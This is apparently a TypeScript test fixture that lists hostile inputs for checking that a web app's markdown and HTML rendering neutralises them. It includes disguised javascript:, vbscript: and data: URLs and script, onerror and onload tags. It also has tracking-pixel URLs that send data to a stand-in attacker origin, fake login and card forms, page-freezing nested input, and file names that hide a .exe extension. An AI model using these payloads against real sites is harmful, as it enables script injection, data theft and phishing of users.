// Hostile input: text written to run script, load something from another origin, restyle the page, hang it, or
// lie about what a file is. `evil` is a foreign origin that records every request it gets (web-test-runner.config.mjs);
// its script and SVG set `window.__pwned` if they ever run, and so does every inline payload.

export interface Payload {
  name: string;
  text: string;
  /** A URL (or something posing as one): also fit for the surfaces that take URLs (links, media, avatars). */
  url?: boolean;
  /** Far longer than a name or title can sensibly be: cut down on surfaces with a `max`. */
  big?: boolean;
}

const PWN = 'window.__pwned=1';

export function hostilePayloads(evil: string): Payload[] {
  const svgScript = `<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN}"><script>${PWN}</script></svg>`;
  const chunk =
    '## Heading *with* emphasis\n\nSome **bold** and _em_ text with `code`, a [link](https://kesk.example/a "t"), ' +
    `https://bare.example/x, ![pixel](${evil}/md-big.gif) and <img src=x onerror="${PWN}">. ~~Gone~~ &amp; \\*escaped\\*\n` +
    `- item\n  - nested [x](javascript:${PWN})\n1. first\n\n> quoted *text*\n\n\`\`\`js\nconst a = 1;\n\`\`\`\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n\n---\n\n`;
  return [
    // Links with schemes that run or carry a document, in every disguise.
    { name: 'javascript: URL', text: `javascript:${PWN}`, url: true },
    { name: 'mixed-case javascript: URL', text: `JaVaScRiPt:${PWN}`, url: true },
    { name: 'javascript: after a control character', text: `\u0001javascript:${PWN}`, url: true },
    { name: 'javascript: with a tab in the scheme', text: `java\tscript:${PWN}`, url: true },
    { name: 'javascript: with a zero-width space in the scheme', text: `java\u200bscript:${PWN}`, url: true },
    { name: 'javascript: as decimal character references', text: `&#106;&#97;vascript:${PWN}`, url: true },
    { name: 'javascript: as hex references without semicolons', text: `&#x6A&#x61vascript:${PWN}`, url: true },
    { name: 'javascript&colon;', text: `javascript&colon;${PWN}`, url: true },
    { name: 'percent-encoded javascript:', text: `%6Aavascript:${PWN}`, url: true },
    { name: 'vbscript: URL', text: 'vbscript:msgbox("pwned")', url: true },
    { name: 'mixed-case VBScript: URL', text: 'VbScRiPt:msgbox("pwned")', url: true },
    { name: 'data:text/html URL', text: `data:text/html;base64,${btoa(`<script>${PWN}</script>`)}`, url: true },
    { name: 'mixed-case DaTa: URL', text: `DaTa:text/html,<script>${PWN}</script>`, url: true },
    { name: 'data:image/svg+xml with script', text: `data:image/svg+xml,${encodeURIComponent(svgScript)}`, url: true },
    { name: 'data: as character references', text: `&#100;ata:text/html,<script>${PWN}</script>`, url: true },
    { name: 'blob: URL', text: `blob:${evil}/0b7e2c3a`, url: true },
    { name: 'file: URL', text: 'file:///etc/passwd', url: true },
    { name: 'protocol-relative URL to a foreign origin', text: `//${new URL(evil).host}/protocol-relative.gif`, url: true },
    { name: 'foreign-origin image URL (exfiltration)', text: `${evil}/pixel.gif?who=reader`, url: true },
    { name: 'foreign-origin SVG with script', text: `${evil}/image.svg`, url: true },
    // Relative URLs, which would resolve against the host page (or the API) at a path of the sender's choosing.
    { name: 'relative path', text: 'orders/42/invoice.pdf', url: true },
    { name: 'root-relative path on the host page', text: '/account/delete?confirm=1', url: true },
    { name: "relative path to the API's files", text: '../v1/files/1/0000/photo.png', url: true },
    { name: 'query-only URL', text: '?logout=1', url: true },

    // Raw HTML, which must show as its own text.
    { name: '<script>', text: `<script>${PWN}</script>` },
    { name: '<script src> from a foreign origin', text: `<script src="${evil}/pwn.js"></script>` },
    { name: '<img onerror>', text: `<img src=x onerror="${PWN}">` },
    { name: '<img> from a foreign origin', text: `<img src="${evil}/raw-img.gif">` },
    { name: '<svg onload>', text: `<svg onload="${PWN}"><circle r="1"/></svg>` },
    { name: '<svg> with <script>', text: svgScript },
    { name: '<iframe srcdoc>', text: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
    { name: '<iframe src> from a foreign origin', text: `<iframe src="${evil}/frame.html"></iframe>` },
    { name: '<object> and <embed>', text: `<object data="${evil}/image.svg"></object><embed src="${evil}/image.svg">` },
    { name: '<a href=javascript:>', text: `<a href="javascript:${PWN}">Open your order</a>` },
    { name: '<style> with @import', text: `<style>@import url(${evil}/import.css); * { display: none }</style>` },
    { name: 'style attribute covering the page', text: `<div style="position:fixed;inset:0;background:url(${evil}/bg.gif)">Log in again</div>` },
    { name: '<link rel=stylesheet>', text: `<link rel="stylesheet" href="${evil}/link.css">` },
    { name: '<meta http-equiv=refresh>', text: `<meta http-equiv="refresh" content="0;url=${evil}/refresh">` },
    { name: '<base href>', text: `<base href="${evil}/">` },
    { name: '<form action>', text: `<form action="${evil}/form"><input name="card"><button>Pay</button></form>` },
    { name: 'event handlers on harmless tags', text: `<details open ontoggle="${PWN}"><summary onclick="${PWN}">x</summary></details>` },
    { name: 'mutation-XSS shape', text: `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}">` },
    { name: 'noscript title breakout', text: `<noscript><p title="</noscript><img src=x onerror=${PWN}>">` },
    { name: 'attribute breakout with a double quote', text: `"><img src=x onerror="${PWN}">` },
    { name: 'attribute breakout with a single quote', text: `' onmouseover='${PWN}' x='` },
    { name: 'split tags', text: `<scr<script>ipt>${PWN}</scr</script>ipt>` },
    { name: 'template-expression injection', text: `{{constructor.constructor('${PWN}')()}} \${${PWN}} <%= ${PWN} %>` },

    // Markdown written to do the same.
    { name: 'markdown javascript: link', text: `[Track your order](javascript:${PWN})` },
    { name: 'markdown image from a foreign origin (exfiltration)', text: `![logo](${evil}/md-image.gif?read=1)` },
    { name: 'markdown image inside a link', text: `[![badge](${evil}/md-badge.gif)](https://kesk.example/)` },
    { name: 'markdown link title breakout', text: `[x](https://kesk.example/ "\\" onmouseover=\\"${PWN}")` },
    { name: 'markdown autolink with javascript:', text: `<javascript:${PWN}>` },
    { name: 'markdown reference-style javascript: link', text: `[click][1]\n\n[1]: javascript:${PWN}` },
    { name: 'markdown deceptive link text', text: `[https://kesk.example/account](${evil}/phish)` },
    { name: 'HTML inside a markdown table', text: `| a |\n|---|\n| <img src=x onerror="${PWN}"> |` },

    // Size and depth: must render, in bounded time, without freezing the page.
    { name: 'megabyte-long markdown', text: chunk.repeat(Math.ceil(1_048_576 / chunk.length)).slice(0, 1_048_576), big: true },
    { name: '10,000 nested quotes', text: `${'>'.repeat(10_000)} <img src=x onerror="${PWN}">`, big: true },
    { name: '10,000 nested emphasis and brackets', text: `${'*['.repeat(5_000)}x${'](javascript:0)*'.repeat(5_000)}`, big: true },
    { name: '5,000 nested list items', text: Array.from({ length: 5_000 }, (_, k) => `${'  '.repeat(k % 60)}- x`).join('\n'), big: true },

    // Text that lies about itself.
    { name: 'right-to-left override in a file name', text: 'invoice\u202Efdp.exe' },
    { name: 'right-to-left isolate in a file name', text: 'photo\u2067gpj.exe\u2069' },
    { name: 'spaces hiding an extension', text: `report.pdf${' '.repeat(80)}.exe` },
    { name: 'invisible characters', text: 'pay\u200bpal\u200d\ufeff\u2060\u0000.com' },
  ];
}
